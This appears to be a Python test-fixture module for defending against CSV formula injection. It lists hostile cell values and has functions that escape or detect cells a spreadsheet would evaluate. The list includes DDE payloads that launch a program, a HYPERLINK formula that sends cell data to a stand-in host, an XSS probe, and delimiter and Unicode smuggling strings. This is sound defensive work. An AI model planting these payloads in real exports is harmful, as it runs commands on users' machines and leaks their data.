"""Forty names that want to be something else in a file: a formula, a column, a line, an end, or the other way round."""

HOSTILE = [
    "=1+1", "=SOM(A1:A9)", '=HYPERLINK("http://kwaad.example?x="&A1;"klik")', "=cmd|' /C calc'!A0", "+1+1",
    "+31 6 12345678", "-1+1", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)", "@import", "\t=1+1", "\tHorst", "\r=1+1",
    "\rHorst", "\n=1+1", "\x00=1+1", "\x00Horst", " =1+1", "  -1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1"',
    '"', '""', "'", "'=1+1", "Horst;Venray", "Horst,Venray", "Horst;=1+1", 'Horst";"=1+1', "Horst\n=1+1",
    "Horst\r\n=1+1;x", "Horst\tVenray", "Horst\x00Venray", "\u202etsroH", "\u200f=1+1\u202c",
    "<script>alert(1)</script>", "💥" * 20,
]  # fmt: skip


def in_csv(label: str) -> str:
    """What a CSV has for it: the same, with an apostrophe before what a spreadsheet would work out."""
    bare = label.lstrip(" ")
    return f"'{label}" if bare[:1] in "=+-@＝＋－＠" or bare[:1] in "\t\r\n\x00" else label


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet would work it out. A number is no formula."""
    return cell.lstrip(" \t\r\n\x00")[:1] in tuple("=+-@＝＋－＠") and not cell.lstrip("-").replace(",", "").isdigit()
